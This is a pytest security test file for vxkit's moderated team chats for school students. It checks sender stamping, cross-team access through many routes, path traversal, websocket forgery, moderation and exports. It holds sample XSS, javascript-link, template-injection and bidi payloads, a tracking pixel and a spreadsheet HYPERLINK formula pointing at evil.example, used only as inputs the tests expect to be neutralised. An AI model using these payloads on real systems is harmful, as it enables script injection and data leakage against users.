"""Team chats, moderated for minors, against a real `vxkit demo`: who reads and writes which
chat by every door, stamped senders, hidden and held messages, mutes, exports, hostile text.

Personas besides the harness's: Benjamín (Valparaíso, team A like Chloé), the Lyon teacher and
the Valparaíso teacher (signed in with the teachers' link).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from urllib.parse import quote

import pytest
from pycrdt import Awareness, Doc, Map, Provider
from tornado.httpclient import HTTPClientError

from tests.server.conftest import WSChannel

from .conftest import Browser, Server, signed_in

TEAM_A_CHAT = "chats/teams/team_rivers.chat"
TEAM_B_CHAT = "chats/teams/team_forests.chat"
REFUSED = (403, 404)

HOSTILE = [
    '<img src=x onerror="alert(1)"><b>bold</b>',
    "<script>document.title='pwned'</script>",
    "look ![tracker](https://evil.example/pixel.png?who=chloe) here",
    "{{ 7*7 }} {% for x in range(3) %}x{% endfor %}",
    "name\u202eevil\u202c end \u2066iso\u2069",
    "[click](javascript:alert(1)) @everyone",
]


@pytest.fixture(scope="module")
def benjamin(server: Server) -> Browser:
    """Benjamín, class Valparaíso, team A (team_rivers), like Chloé."""
    return signed_in(server, "valparaiso_1m", "benjamin", name="Benjamín")


@pytest.fixture(scope="module")
def laurent(server: Server) -> Browser:
    """Mme Laurent, the Lyon teacher, through the teachers' link."""
    return signed_in(server, "teachers", "laurent", name="Mme Laurent")


@pytest.fixture(scope="module")
def rojas(server: Server) -> Browser:
    """Profesora Rojas, the Valparaíso teacher."""
    return signed_in(server, "teachers", "rojas", name="Profesora Rojas")


def saved_chat(server: Server, ready, timeout: float = 15.0) -> dict:
    """The team A chat file once ``ready(content)`` holds (the server saves after a debounce,
    and rewrites the file in place)."""
    deadline = time.monotonic() + timeout
    content: dict = {}
    while time.monotonic() < deadline:
        try:
            content = json.loads(server.read(TEAM_A_CHAT) or b"{}")
        except ValueError:
            content = {}
        if content and ready(content):
            return content
        time.sleep(0.2)
    raise AssertionError(f"the chat file never got there: {str(content)[:300]}")


def post(browser: Browser, chat: str, body: object, **extra: object):
    return browser.post(f"vxkit/api/chats/{quote(chat)}", {"body": body, **extra})


def messages(browser: Browser, chat: str = "team:team_rivers") -> list[dict]:
    response = browser.get(f"vxkit/api/chats/{quote(chat)}")
    assert response.status_code == 200, (browser, response.status_code, response.text)
    return response.json()["messages"]


def texts(browser: Browser, chat: str = "team:team_rivers") -> list[str]:
    return [m["text"] for m in messages(browser, chat)]


# ----------------------------------------------------------------------------------------------
# posting and reading


def test_message_carries_the_servers_identity_not_the_browsers(chloe: Browser, benjamin: Browser):
    """Door: Chloé posts with a sender, name and city of her choosing (what jupyter-chat's own
    client sends): the message is hers, named by the server, in Valparaíso's time for Benjamín."""
    response = post(
        chloe,
        "team:team_rivers",
        "Hola! We measured the Rhône today",
        sender="vx-valparaiso_1m-benjamin",
        name="Profesora Rojas",
        city="Valparaíso",
    )
    assert response.status_code == 200, response.text
    seen = next(m for m in messages(benjamin) if m["text"] == "Hola! We measured the Rhône today")
    assert (seen["name"], seen["city"], seen["class_id"], seen["role"]) == (
        "Chloé",
        "Lyon",
        "lyon_4b",
        "student",
    )
    assert seen["stamped"] and not seen["mine"]
    # the time in Benjamín's own zone (Valparaíso), not the server's or Lyon's
    chat = benjamin.get("vxkit/api/chats/team%3Ateam_rivers").json()
    assert chat["timezone"] == "America/Santiago"
    assert seen["local_time"].endswith(("-03:00", "-04:00"))
    mine = next(m for m in messages(chloe) if m["id"] == seen["id"])
    assert mine["mine"] and mine["local_time"].endswith(("+01:00", "+02:00"))


def test_students_list_only_their_own_chats(chloe: Browser, lucas: Browser, visitor: Browser):
    """Door: the chat list tells a student about other teams' and classes' chats."""
    assert [c["key"] for c in chloe.get("vxkit/api/chats").json()["chats"]] == [
        "team:team_rivers",
        "class:lyon_4b",
    ]
    assert [c["key"] for c in lucas.get("vxkit/api/chats").json()["chats"]] == [
        "team:team_forests",
        "class:lyon_4b",
    ]
    assert visitor.get("vxkit/api/chats").json()["chats"] == []


# ----------------------------------------------------------------------------------------------
# every door to another team's chat


def test_other_teams_student_cant_read_or_write_the_chat_by_any_http_door(
    server: Server, chloe: Browser, lucas: Browser, teacher: Browser
):
    """Doors: Lucas (team B) tries team A's chat through vxkit's endpoints, the contents API,
    /files, the download and nbconvert routes, checkpoints, document sessions and file ids."""
    assert post(chloe, "team:team_rivers", "secret river plan").status_code == 200
    file_id = teacher.put(
        f"api/collaboration/session/{TEAM_A_CHAT}", {"format": "text", "type": "chat"}
    ).json()["fileId"]
    attempts = {
        "endpoint GET": lucas.get("vxkit/api/chats/team%3Ateam_rivers"),
        "endpoint POST": post(lucas, "team:team_rivers", "hi from team B"),
        "seen": lucas.post("vxkit/api/chats/team%3Ateam_rivers/seen", {}),
        "export": lucas.get("vxkit/api/chats/team%3Ateam_rivers/export?format=json"),
        "contents": lucas.get(f"api/contents/{TEAM_A_CHAT}"),
        "contents encoded": lucas.get(f"api/contents/{quote(TEAM_A_CHAT, safe='')}"),
        "contents dotdot": lucas.get(f"api/contents/projects/team_forests/..%2F..%2F{TEAM_A_CHAT}"),
        "contents listing": lucas.get("api/contents/chats/teams"),
        "contents write": lucas.put(
            f"api/contents/{TEAM_A_CHAT}", {"type": "file", "format": "text", "content": "{}"}
        ),
        "copy out": lucas.post(
            "api/contents/projects/team_forests", {"copy_from": TEAM_A_CHAT, "ext": ".chat"}
        ),
        "files": lucas.get(f"files/{TEAM_A_CHAT}"),
        "view": lucas.get(f"view/{TEAM_A_CHAT}"),
        "nbconvert": lucas.get(f"nbconvert/html/{TEAM_A_CHAT}"),
        "checkpoints": lucas.get(f"api/contents/{TEAM_A_CHAT}/checkpoints"),
        "session": lucas.put(
            f"api/collaboration/session/{TEAM_A_CHAT}", {"format": "text", "type": "chat"}
        ),
        "fileid": lucas.get(f"api/fileid/id?path={quote(TEAM_A_CHAT)}"),
        "filepath": lucas.get(f"api/fileid/path?id={file_id}"),
    }
    opened = {door: r.status_code for door, r in attempts.items() if r.status_code not in REFUSED}
    assert opened == {}, f"doors open to Lucas: {opened}"
    for door, response in attempts.items():
        assert "secret river plan" not in response.text, door
    assert "hi from team B" not in json.dumps(texts(chloe))


def test_visitor_sees_no_chat_unless_teachers_allow_it(visitor: Browser, teacher: Browser):
    """Doors: a visitor reads a team chat by the endpoint, the contents API or /files."""
    for path in ("vxkit/api/chats/team%3Ateam_rivers", f"api/contents/{TEAM_A_CHAT}"):
        assert visitor.get(path).status_code in REFUSED, path
    assert visitor.get(f"files/{TEAM_A_CHAT}").status_code in REFUSED
    try:
        assert teacher.patch("vxkit/api/moderation", {"visitors": True}).status_code == 200
        assert visitor.get("vxkit/api/chats/team%3Ateam_rivers").status_code == 200
        # reading, never writing
        assert post(visitor, "team:team_rivers", "hello from a visitor").status_code == 403
    finally:
        teacher.patch("vxkit/api/moderation", {"visitors": False})
    assert visitor.get("vxkit/api/chats/team%3Ateam_rivers").status_code == 403


async def test_other_teams_student_cant_open_the_chat_room(
    lucas: Browser, chloe: Browser, teacher: Browser
):
    """Door: the collaboration room websocket of team A's chat, with the file id (read by the
    harness as the teacher) and Lucas's own session id."""
    session = teacher.put(
        f"api/collaboration/session/{TEAM_A_CHAT}", {"format": "text", "type": "chat"}
    ).json()
    room = f"api/collaboration/room/text:chat:{session['fileId']}?sessionId={session['sessionId']}"
    with pytest.raises(HTTPClientError) as refused:
        await lucas.websocket(room)
    assert refused.value.code == 403
    conn = await chloe.websocket(room)  # her own team's room opens (read-only, below)
    conn.close()


async def write_through_the_socket(chloe: Browser, path: str, text: str) -> None:
    """Chloé writes a message straight into the shared document of chat ``path``, as
    jupyter-chat's client does, naming Benjamín as the sender."""
    session = chloe.put(f"api/collaboration/session/{path}", {"format": "text", "type": "chat"})
    assert session.status_code in (200, 201), session.text
    session = session.json()
    conn = await chloe.websocket(
        f"api/collaboration/room/text:chat:{session['fileId']}?sessionId={session['sessionId']}"
    )
    doc = Doc()
    provider = Provider(doc, WSChannel(conn, "chat", Awareness(doc)))
    async with provider:
        await asyncio.wait_for(provider.synced.wait(), 10)
        forged = {
            "type": "msg",
            "id": "forged-" + text[:8],
            "body": text,
            "sender": "vx-valparaiso_1m-benjamin",
            "time": 1.0,
        }
        doc.get("messages", type=_array()).append(Map(forged))
        await asyncio.sleep(1.0)
    conn.close()


async def test_student_chat_socket_is_read_only(
    chloe: Browser, benjamin: Browser, teacher: Browser
):
    """Door: Chloé writes into her team chat's shared document over the room websocket: the
    server drops it."""
    await write_through_the_socket(chloe, TEAM_A_CHAT, "FORGED by the socket")
    assert "FORGED by the socket" not in json.dumps(texts(teacher))
    assert "FORGED by the socket" not in json.dumps(texts(benjamin))


async def test_no_unmoderated_chat_in_a_team_folder(
    server: Server, chloe: Browser, teacher: Browser
):
    """Door: Chloé makes a chat of her own in her team folder (JupyterLab's launcher offers
    "Chat") to talk unstamped and unmoderated: a .chat outside chats/ is teachers' only, and
    any chat document is read-only over the socket for students anyway."""
    side = "projects/team_rivers/side.chat"
    content = {"type": "file", "format": "text", "content": '{"messages": [], "users": {}}'}
    assert chloe.put(f"api/contents/{side}", content).status_code == 403
    # a copy of her team's chat lands in the folder, but is no chat she can open
    copy = chloe.post("api/contents/projects/team_rivers", {"copy_from": TEAM_A_CHAT})
    if copy.status_code in (200, 201):
        assert chloe.get(f"api/contents/{copy.json()['path']}").status_code == 403
    assert teacher.put(f"api/contents/{side}", content).status_code in (200, 201)
    assert chloe.get(f"api/contents/{side}").status_code == 403
    session = chloe.put(f"api/collaboration/session/{side}", {"format": "text", "type": "chat"})
    assert session.status_code == 403
    with pytest.raises(AssertionError):
        await write_through_the_socket(chloe, side, "UNMODERATED side chat")
    assert b"UNMODERATED" not in (server.read(side) or b"")


def _array():
    from pycrdt import Array

    return Array


# ----------------------------------------------------------------------------------------------
# hostile text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_kept_as_typed_and_escaped_in_the_document(
    server: Server, chloe: Browser, benjamin: Browser, text: str
):
    """Door: HTML, script, a remote image, jinja, bidi overrides posted by a student: readers
    get the text as data (the panel shows it with textContent), bidi controls removed, and the
    shared document's markdown body escaped so jupyterlab-chat's viewer shows it as text."""
    assert post(chloe, "team:team_rivers", text).status_code == 200
    expected = "".join(ch for ch in text if ch not in "\u202e\u202c\u2066\u2069")
    assert expected in texts(benjamin)
    on_disk = saved_chat(
        server, lambda c: any(m["metadata"]["vxkit"].get("text") == expected for m in c["messages"])
    )
    body = next(
        m["body"] for m in on_disk["messages"] if m["metadata"]["vxkit"].get("text") == expected
    )
    for live in ("<", ">", "![", "](", "{{"):
        assert live not in body, (live, body)
    assert "\u202e" not in json.dumps(on_disk, ensure_ascii=False)


def test_very_long_message_is_refused_with_a_sentence(chloe: Browser):
    """Door: a 100 KB message (a denial of reading for everyone else)."""
    response = post(chloe, "team:team_rivers", "A" * 100_000)
    assert response.status_code == 400
    assert "'body'" in response.json()["message"] and "100000" in response.json()["message"]
    assert post(chloe, "team:team_rivers", {"html": "<b>"}).status_code == 400
    assert post(chloe, "team:team_rivers", "\u202e\u202c  ").status_code == 400


# ----------------------------------------------------------------------------------------------
# moderation


def test_teacher_hides_a_message_and_its_text_leaves_the_document(
    server: Server, chloe: Browser, benjamin: Browser, laurent: Browser, rojas: Browser
):
    """A teacher hides a message: Benjamín and the partner teacher no longer get its text,
    nor does the chat file; Chloé sees her message was hidden."""
    text = "meet me after school at the bridge"
    message_id = post(chloe, "team:team_rivers", text).json()["id"]
    assert text in texts(rojas)
    assert post(chloe, "team:team_rivers", "x").status_code == 200
    # students can't hide
    assert (
        chloe.post(
            "vxkit/api/moderation/hide", {"chat": "team:team_rivers", "id": message_id}
        ).status_code
        == 403
    )
    response = laurent.post(
        "vxkit/api/moderation/hide", {"chat": "team:team_rivers", "id": message_id}
    )
    assert response.status_code == 200, response.text
    for reader in (benjamin, rojas):
        seen = next(m for m in messages(reader) if m["id"] == message_id)
        assert seen["hidden"] and seen["text"] == ""
    own = next(m for m in messages(chloe) if m["id"] == message_id)
    assert own["hidden"] and own["text"] == text
    assert text not in server.read(TEAM_A_CHAT).decode()
    assert text not in server.read(".vxkit/chat/journal/team-team_rivers.jsonl").decode()
    assert text in server.read(".vxkit/chat/hidden.json").decode()  # the teachers' record


def test_flagged_word_holds_the_message_until_a_teacher_releases_it(
    chloe: Browser, benjamin: Browser, rojas: Browser
):
    """A word of the starter list holds a message outside the shared document: the author sees
    it waiting, teammates see nothing until a teacher releases it."""
    response = post(chloe, "team:team_rivers", "your graph is stupid")
    assert response.status_code == 202 and response.json()["held"]
    assert "your graph is stupid" not in texts(benjamin)
    mine = next(m for m in messages(chloe) if m["text"] == "your graph is stupid")
    assert mine["held"] and mine["mine"]
    queue = rojas.get("vxkit/api/moderation").json()["held"]
    held = next(h for h in queue if h["text"] == "your graph is stupid")
    assert held["words"] == ["stupid"] and held["name"] == "Chloé"
    assert (
        benjamin.post(f"vxkit/api/moderation/held/{held['id']}", {"action": "release"}).status_code
        == 403
    )
    assert (
        rojas.post(f"vxkit/api/moderation/held/{held['id']}", {"action": "release"}).status_code
        == 200
    )
    released = next(m for m in messages(benjamin) if m["text"] == "your graph is stupid")
    assert released["name"] == "Chloé" and not released["held"]


def test_teachers_edit_the_word_list(teacher: Browser, chloe: Browser, benjamin: Browser):
    """The word list is the teachers' (a student can't read or change it)."""
    assert chloe.get("vxkit/api/moderation").status_code == 403
    assert chloe.patch("vxkit/api/moderation", {"words": []}).status_code == 403
    words = teacher.get("vxkit/api/moderation").json()["settings"]["words"]
    assert "débile" in words and "idiota" in words  # the classes speak fr and es
    bad = teacher.patch("vxkit/api/moderation", {"words": "banana"})
    assert bad.status_code == 400 and "'words'" in bad.json()["message"]
    try:
        assert (
            teacher.patch("vxkit/api/moderation", {"words": [*words, "Banane"]}).status_code == 200
        )
        assert post(chloe, "team:team_rivers", "une BANANE!").status_code == 202
        assert "une BANANE!" not in texts(benjamin)
    finally:
        teacher.patch("vxkit/api/moderation", {"words": words})


def test_muted_student_cant_post_until_unmuted(chloe: Browser, laurent: Browser):
    """A teacher mutes a student for a time; 0 minutes lifts it."""
    bad = laurent.post("vxkit/api/moderation/mute", {"student": "lyon_4b-chloe", "minutes": "ten"})
    assert bad.status_code == 400 and "'minutes'" in bad.json()["message"]
    student = next(m["student_id"] for m in messages(laurent) if m["name"] == "Chloé")
    # a student mutes nobody, herself included
    refused = chloe.post("vxkit/api/moderation/mute", {"student": "lyon_4b-hugo", "minutes": 9})
    assert refused.status_code == 403
    assert student and all("student_id" not in m for m in messages(chloe))
    assert (
        laurent.post("vxkit/api/moderation/mute", {"student": student, "minutes": 10}).status_code
        == 200
    )
    try:
        response = post(chloe, "team:team_rivers", "am I muted?")
        assert response.status_code == 403 and "muted" in response.json()["message"]
    finally:
        laurent.post("vxkit/api/moderation/mute", {"student": student, "minutes": 0})
    assert post(chloe, "team:team_rivers", "not muted any more").status_code == 200


def test_teacher_exports_the_conversation(laurent: Browser, chloe: Browser):
    """Export as JSON and CSV, hidden and held messages marked; a cell starting with "=" can't
    run as a spreadsheet formula."""
    assert post(chloe, "team:team_rivers", '=HYPERLINK("http://evil.example")').status_code == 200
    as_json = laurent.get("vxkit/api/chats/team%3Ateam_rivers/export?format=json")
    assert as_json.status_code == 200
    assert "attachment" in as_json.headers["Content-Disposition"]
    rows = as_json.json()["messages"]
    assert {"shown", "hidden"} <= {r["status"] for r in rows}
    as_csv = laurent.get("vxkit/api/chats/team%3Ateam_rivers/export?format=csv")
    table = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert any(r["text"] == '\'=HYPERLINK("http://evil.example")' for r in table)
    assert laurent.get("vxkit/api/chats/team%3Ateam_rivers/export?format=xml").status_code == 400


def test_agora_opens_only_when_teachers_allow_it(chloe: Browser, lucas: Browser, teacher: Browser):
    """The exchange-wide chat is closed by default; teachers open it to every student."""
    assert chloe.get("vxkit/api/chats/agora").status_code == 403
    assert post(chloe, "agora", "hello world").status_code == 403
    try:
        assert teacher.patch("vxkit/api/moderation", {"agora": True}).status_code == 200
        assert post(chloe, "agora", "hello world").status_code == 200
        assert "hello world" in texts(lucas, "agora")
    finally:
        teacher.patch("vxkit/api/moderation", {"agora": False})
    assert lucas.get("vxkit/api/chats/agora").status_code == 403


def test_unread_counts_and_last_seen(chloe: Browser, benjamin: Browser):
    """Unread counts per chat for the Exchange panel, and the time each person last read."""
    chat = benjamin.get("vxkit/api/chats/team%3Ateam_rivers").json()
    latest = max(m["time"] for m in chat["messages"])
    assert (
        benjamin.post("vxkit/api/chats/team%3Ateam_rivers/seen", {"time": latest}).status_code
        == 200
    )
    row = next(
        c for c in benjamin.get("vxkit/api/chats").json()["chats"] if c["key"] == "team:team_rivers"
    )
    assert row["unread"] == 0
    post(chloe, "team:team_rivers", "one more")
    post(chloe, "team:team_rivers", "and another")
    row = next(
        c for c in benjamin.get("vxkit/api/chats").json()["chats"] if c["key"] == "team:team_rivers"
    )
    assert row["unread"] == 2
    assert benjamin.get("vxkit/api/chats/team%3Ateam_rivers").json()["last_seen"] == latest


async def test_new_message_wakes_a_waiting_reader(chloe: Browser, benjamin: Browser):
    """Long polling: a reader waiting with ``after=<version>`` gets the message live."""
    version = benjamin.get("vxkit/api/chats/team%3Ateam_rivers").json()["version"]
    loop = asyncio.get_running_loop()
    waiting = loop.run_in_executor(
        None, lambda: benjamin.get(f"vxkit/api/chats/team%3Ateam_rivers?after={version}&wait=20")
    )
    await asyncio.sleep(0.5)
    await loop.run_in_executor(None, lambda: post(chloe, "team:team_rivers", "live!"))
    answer = await asyncio.wait_for(waiting, 10)
    assert "live!" in [m["text"] for m in answer.json()["messages"]]
